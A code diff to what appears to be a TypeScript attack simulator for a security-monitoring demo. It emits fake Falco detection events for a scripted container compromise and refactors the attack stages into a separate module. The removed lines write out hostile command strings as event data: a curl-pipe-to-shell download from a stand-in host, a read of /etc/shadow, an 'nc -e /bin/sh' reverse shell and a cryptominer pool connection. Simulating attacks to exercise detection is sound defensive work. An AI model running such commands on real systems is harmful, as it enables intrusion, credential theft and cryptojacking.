@@ -1,13 +1,23 @@
+import {
+	callHomeFrom,
+	droppedIn,
+	netcatIn,
+	poolCallFrom,
+	shadowReadIn,
+	shellIn,
+	webShellIn,
+} from '../attack-events.ts';
 import type { Pod } from '../cluster.ts';
-import { dropEvent, type Process, processEvent } from '../falco-events.ts';
+import { dropEvent, type FalcoEvent } from '../falco-events.ts';
 import type { Host } from '../hosts.ts';
 import { beacon, loadBeacon } from '../salt-events.ts';
 import type { Act, Stage, Telling } from '../stage.ts';
 
-const commandServer = '203.0.113.7';
-const minerPool = '198.51.100.23';
-/** So many looks, a second apart, the story stays with an attack that was answered: time to take it back. */
-const aftertaste = 60;
+/** So many looks, a second apart, the story stays with an attack that was answered: time to look around and take it back. */
+const aftertaste = 120;
+/** Every so many rounds of mining somebody looks in: a shell again. */
+const looksInEvery = 10;
+const loads = { mining: 14.2, usual: 0.8 };
 
 /** What the operator can read off the events, and what to press now. */
 const captions = {
@@ -30,10 +40,7 @@ export const attack: Act = {
 			yield 4000;
 			return;
 		}
-		yield* breakIn(stage, pod);
-		yield* callOut(stage, pod);
-		yield* settle(stage, pod);
-		yield* persist(stage, pod);
+		yield* whileFree(stage, pod, steps(stage, pod));
 	},
 };
 
@@ -46,80 +53,20 @@ function victim({ cluster, hosts }: Stage): Pod | undefined {
 	return free.find(({ node }) => node === 'web12') ?? free[0];
 }
 
-function* breakIn(stage: Stage, pod: Pod): Telling {
-	runs(stage, pod, webShell, {
-		rule: 'Web Server Spawned Shell',
-		priority: 'Critical',
-		text: 'Web server spawned shell | web_server=nginx',
-		tags: ['T1505.003', 'container', 'mitre_persistence', 'process'],
-	});
-	yield 1400;
-	runs(stage, pod, reader, {
-		rule: 'Read sensitive file untrusted',
-		priority: 'Warning',
-		text: 'Sensitive file opened for reading by non-trusted program | file=/etc/shadow',
-		tags: ['T1555', 'container', 'filesystem', 'mitre_credential_access'],
-		fields: { 'evt.type': 'openat', 'fd.name': '/etc/shadow' },
-	});
-	yield 1100;
-	runs(stage, pod, shell, {
-		rule: 'Terminal shell in container',
-		priority: 'Critical',
-		text: 'A shell was spawned in a container with an attached terminal',
-		tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
-	});
-	yield 160;
-}
-
-function* callOut(stage: Stage, pod: Pod): Telling {
-	connects(stage, pod, shell, commandServer, 4444);
-	yield 900;
-	for (let times = 0; times < 4; times++) {
-		runs(stage, pod, netcat, {
-			rule: 'Launch Suspicious Network Tool in Container',
-			priority: 'Warning',
-			text: 'Network tool launched in container',
-			tags: ['T1595', 'container', 'mitre_execution', 'network', 'process'],
-		});
-		yield 450;
-		connects(stage, pod, netcat, commandServer, 4444);
-		yield 350;
-	}
-	const change = { path: '/etc/passwd', change: 'IN_MODIFY' };
-	beacon(stage, hostOf(stage, pod.node), 'inotify', change, '/etc/passwd');
-	yield 1200;
-}
-
-function* settle(stage: Stage, pod: Pod): Telling {
-	stage.falco(dropEvent(pod.node, 214_880, 2104));
-	yield 600;
-	runs(stage, pod, miner, {
-		rule: 'Drop and execute new binary in container',
-		priority: 'Critical',
-		text: 'Executing binary not part of base image | proc_exe=/tmp/.x/kworkerds',
-		tags: ['PCI_DSS_11.5.1', 'TA0003', 'container', 'mitre_persistence', 'process'],
-		fields: { 'proc.exe_ino.ctime_duration_proc_start': 18_446_744_073_670_260_079n },
-	});
-	for (let times = 0; times < 5; times++) {
-		yield 800;
-		connects(stage, pod, miner, minerPool, 3333);
-		loadBeacon(stage, hostOf(stage, pod.node));
-	}
-}
-
-/** It goes on while nobody answers; an answer is watched for a while, and taken back it goes on again. */
-function* persist(stage: Stage, pod: Pod): Telling {
-	let said: Reach | undefined;
-	let calm = 0;
-	for (let round = 0; round < stage.patience && calm < aftertaste; round++) {
+/** An answer stops the attack where it is. That is watched for a while; taken back, the attack goes on from there. */
+function* whileFree(stage: Stage, pod: Pod, attacking: Telling): Telling {
+	const host = hostOf(stage, pod.node);
+	let said: Reach = 'free';
+	for (let calm = 0; calm < aftertaste; ) {
 		const reach = reachOf(stage, pod);
 		if (reach !== said) stage.caption(captions[reach]);
 		said = reach;
 		calm = reach === 'free' ? 0 : calm + 1;
-		connects(stage, pod, miner, minerPool, 3333);
-		yield reach === 'free' ? 900 : 1000;
+		host.usualLoad = reach === 'free' ? loads.mining : loads.usual;
+		const { value, done } = reach === 'free' ? attacking.next() : { value: 1000, done: false };
+		if (done) return;
+		yield Number(value);
 	}
-	yield 900;
 }
 
 function reachOf(stage: Stage, pod: Pod): Reach {
@@ -128,57 +75,74 @@ function reachOf(stage: Stage, pod: Pod): Reach {
 	return hostOf(stage, pod.node).isLocked ? 'locked' : 'free';
 }
 
-type Finding = Parameters<typeof processEvent>[2];
-
-/** Something runs in the pod, as long as the pod is there. */
-function runs(stage: Stage, pod: Pod, process: Process, finding: Finding): void {
-	if (!stage.cluster.pods.includes(pod)) return;
-	stage.falco(processEvent({ node: pod.node, pod }, process, finding));
+/** The whole attack, as if nobody were there. */
+function* steps(stage: Stage, pod: Pod): Telling {
+	yield* breakIn(stage, pod);
+	yield* callOut(stage, pod);
+	yield* settle(stage, pod);
+	stage.caption(captions.free);
+	yield* mine(stage, pod);
 }
 
-/** The pod reaches an address outside: neither where it is isolated nor where its host is locked down. */
-function connects(stage: Stage, pod: Pod, process: Process, ip: string, port: number): void {
-	if (reachOf(stage, pod) !== 'free') return;
-	const local = `${pod.address}:${stage.chance.whole(40_000, 60_000)}`;
-	runs(stage, pod, process, {
-		rule: 'Outbound Connection to C2 Servers',
-		priority: 'Critical',
-		text: `Outbound connection to C2 server | ip=${ip} connection=${local}->${ip}:${port}`,
-		tags: ['T1071', 'container', 'mitre_command_and_control', 'network'],
-		fields: {
-			'evt.type': 'connect',
-			'fd.name': `${local}->${ip}:${port}`,
-			'fd.rip': ip,
-			'fd.rport': port,
-			'fd.sip': ip,
-		},
-	});
+function* breakIn(stage: Stage, pod: Pod): Telling {
+	happens(stage, pod, webShellIn);
+	yield 900;
+	happens(stage, pod, shadowReadIn);
+	yield 700;
+	happens(stage, pod, shellIn);
+	yield 2500;
+}
+
+function* callOut(stage: Stage, pod: Pod): Telling {
+	calls(stage, pod, callHomeFrom);
+	yield 1500;
+	for (let times = 0; times < 4; times++) {
+		happens(stage, pod, netcatIn);
+		yield 700;
+		calls(stage, pod, callHomeFrom);
+		yield 900;
+	}
+	const change = { path: '/etc/passwd', change: 'IN_MODIFY' };
+	beacon(stage, hostOf(stage, pod.node), 'inotify', change, '/etc/passwd');
+	yield 2000;
+}
+
+function* settle(stage: Stage, pod: Pod): Telling {
+	stage.falco(dropEvent(pod.node, 214_880, 2104));
+	yield 900;
+	happens(stage, pod, droppedIn);
+	for (let times = 0; times < 5; times++) {
+		yield 900;
+		calls(stage, pod, poolCallFrom);
+		loadBeacon(stage, hostOf(stage, pod.node));
+	}
+	yield 900;
+}
+
+function* mine(stage: Stage, pod: Pod): Telling {
+	for (let round = 1; round <= stage.patience; round++) {
+		calls(stage, pod, poolCallFrom);
+		if (round % looksInEvery === 0) happens(stage, pod, shellIn);
+		yield 900;
+	}
+	yield 900;
+}
+
+type Place = { readonly node: string; readonly pod: Pod };
+
+function happens(stage: Stage, pod: Pod, eventIn: (place: Place) => FalcoEvent): void {
+	stage.falco(eventIn({ node: pod.node, pod }));
+}
+
+function calls(
+	stage: Stage,
+	pod: Pod,
+	eventFrom: (place: Place, port: number) => FalcoEvent,
+): void {
+	stage.falco(eventFrom({ node: pod.node, pod }, stage.chance.whole(40_000, 60_000)));
 }
 
 /** The host of a node's name. */
 function hostOf({ hosts }: Pick<Stage, 'hosts'>, node: string): Host {
 	return Object.values(hosts).find(({ id }) => id === node) ?? hosts.web12;
 }
-
-const asWebServer = { user: 'www-data', uid: 33 };
-const asRoot = { user: 'root', uid: 0 };
-const webShell: Process = {
-	...asWebServer,
-	name: 'sh',
-	line: `sh -c id; curl -s http://${commandServer}/x.sh | sh`,
-	parent: 'nginx',
-};
-const reader: Process = { ...asRoot, name: 'cat', line: 'cat /etc/shadow', parent: 'sh' };
-const shell: Process = { ...asRoot, name: 'bash', line: 'bash -i', parent: 'runc' };
-const netcat: Process = {
-	...asRoot,
-	name: 'nc',
-	line: `nc -e /bin/sh ${commandServer} 4444`,
-	parent: 'bash',
-};
-const miner: Process = {
-	...asRoot,
-	name: 'kworkerds',
-	line: `kworkerds -o stratum+tcp://${minerPool}:3333`,
-	parent: 'bash',
-};
